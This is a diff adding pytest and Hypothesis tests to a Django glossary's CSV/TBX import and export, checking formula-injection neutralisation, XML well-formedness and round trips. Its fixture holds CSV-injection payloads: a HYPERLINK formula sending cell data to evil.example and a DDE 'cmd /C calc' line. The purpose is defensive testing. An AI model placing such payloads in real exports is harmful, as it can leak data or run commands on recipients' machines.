@@ -1,12 +1,31 @@
 """CSV and TBX: parsing, the all-or-nothing import and its report, export round trips."""
 
+import csv
+import io
+import re
+from dataclasses import dataclass
+
 import pytest
+from django.core.exceptions import ValidationError
+from django.db import transaction
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from accounts.models import Activity
-from glossary.exchange import ImportFileError, parse_csv, parse_tbx, parse_xml, write_csv, write_tbx
+from glossary.exchange import (
+    FORMULA_STARTS,
+    ImportFileError,
+    csv_cell_neutralise,
+    csv_cell_restore,
+    parse_csv,
+    parse_tbx,
+    parse_xml,
+    write_csv,
+    write_tbx,
+)
 from glossary.models import DictionaryEntry
 from glossary.services import entry_create, entry_set_archived, glossary_apply, glossary_import_file
-from glossary.tests.factories import seed_entries
+from glossary.tests.factories import DictionaryEntryFactory, seed_entries
 
 pytestmark = pytest.mark.django_db
 
@@ -323,3 +342,135 @@ def test_parsers_raise_one_error_type():
         parse_csv(b"\xff\xfe")
     with pytest.raises(ImportFileError):
         parse_tbx(b"<martif")
+
+
+# --- spreadsheet formulas (OWASP CSV injection) and text XML cannot carry -----------------
+
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"implant")', "implant"),
+    ("@SUM(A1:A9)", "sum"),
+    ("+cmd|' /C calc'!A0", "calc"),
+    ("-ectomy", "-ectomy"),
+    ("'=quoted already", "quoted"),
+    ("''+twice", "twice"),
+]
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them(editor):
+    for original, corrected in FORMULAS:
+        entry_create(user=editor, term_original=original, term_corrected=corrected)
+    entry_create(
+        user=editor, term_original="implane", term_corrected="implant", context="=1+1 surgical"
+    )
+    exported = write_csv(DictionaryEntry.objects.all())
+
+    cells = [cell for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"implant")' in cells
+    assert "'-ectomy" in cells and "'=1+1 surgical" in cells
+    assert "'''+twice" in cells  # one more apostrophe, so import can take exactly one off
+    assert "implane" in cells and "implant" in cells  # ordinary text is left alone
+
+    before = entries()
+    DictionaryEntry.objects.all().update(term_corrected="zzz", context=None)
+    report = run(editor, exported.encode())
+    assert report.imported, report.problems
+    assert entries() == before
+
+
+@given(st.text(alphabet=st.characters(blacklist_characters="\x00")))
+def test_neutralising_a_cell_is_reversible_and_never_a_formula(value):
+    written = csv_cell_neutralise(value)
+    assert not written.startswith(FORMULA_STARTS)
+    assert csv_cell_restore(written) == value
+
+
+@dataclass
+class Stored:
+    """What the exporters read from a dictionary entry (any text the database can hold)."""
+
+    term_original: str
+    term_corrected: str
+    language_code: str = "en"
+    context: str | None = None
+    usage_count: int = 0
+    pk: str = "1"
+
+
+NO_NUL = st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))
+XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+
+
+@given(
+    original=st.text(alphabet=NO_NUL, min_size=1),
+    corrected=st.text(alphabet=NO_NUL, min_size=1),
+    context=st.text(alphabet=NO_NUL),
+)
+def test_tbx_export_is_well_formed_for_any_text_and_reads_back(original, corrected, context):
+    entry = Stored(original, corrected, context=context or None)
+    exported = write_tbx([entry], source_note=context)
+    parse_xml(exported.encode())  # well-formed, whatever the text
+    rows = {(r.term_original, r.term_corrected, r.context) for r in parse_tbx(exported.encode())}
+    expected_context = " ".join(XML_ILLEGAL.sub("", context).split())
+    kept_original, kept_corrected = XML_ILLEGAL.sub("", original), XML_ILLEGAL.sub("", corrected)
+    assert (kept_original, kept_corrected, expected_context) in rows
+
+
+@given(
+    original=st.text(alphabet=NO_NUL, min_size=1, max_size=40),
+    corrected=st.text(alphabet=NO_NUL, min_size=1, max_size=40),
+    context=st.text(alphabet=NO_NUL, max_size=40),
+)
+@settings(max_examples=60)
+def test_whatever_the_glossary_accepts_round_trips_through_tbx_and_csv(
+    original, corrected, context
+):
+    from accounts.models import User
+
+    user = User.objects.system_user()
+    try:
+        with transaction.atomic():
+            entry_create(
+                user=user, term_original=original, term_corrected=corrected, context=context
+            )
+            stored = entries()
+            for name, exported in (
+                ("g.tbx", write_tbx(DictionaryEntry.objects.all(), source_note="x")),
+                ("g.csv", write_csv(DictionaryEntry.objects.all())),
+            ):
+                DictionaryEntry.objects.all().update(term_corrected="zzz", context=None)
+                report = run(user, exported, name=name)
+                assert report.imported, (name, report.problems)
+                assert set(stored) <= set(entries()), name
+            raise _Rollback
+    except ValidationError:
+        return  # refused with a message (empty, punctuation only, control characters)
+    except _Rollback:
+        pass
+
+
+class _Rollback(Exception):
+    """Undo one example's writes (Hypothesis runs many examples inside one test)."""
+
+
+def test_a_stored_control_character_still_exports_well_formed_xml(editor):
+    # Rows stored before control characters were refused (or written around the services).
+    DictionaryEntryFactory(
+        term_original="imp\x01lane", term_corrected="implant\x1f", context="surg\x0bical"
+    )
+    exported = write_tbx(DictionaryEntry.objects.all(), source_note="x")
+    report = run(editor, exported, name="g.tbx")
+    assert report.imported, report.problems
+    assert ("implane", "implant", "en", "surgical") in entries()
+
+
+@pytest.mark.parametrize("field", ["term_original", "term_corrected", "context"])
+def test_control_characters_are_refused_with_a_message(editor, field):
+    values = {"term_original": "implane", "term_corrected": "implant", "context": "surgical"}
+    values[field] = values[field][:3] + "\x07" + values[field][3:]
+    with pytest.raises(ValidationError) as refused:
+        entry_create(user=editor, **values)
+    assert "control or invalid character (U+0007)" in refused.value.message_dict[field][0]
+    report = run(editor, HEADER + ",".join([*values.values()][:2]) + ",en," + values["context"])
+    assert any("control or invalid character (U+0007)" in p for p in report.problems)
+    assert not DictionaryEntry.objects.exists()
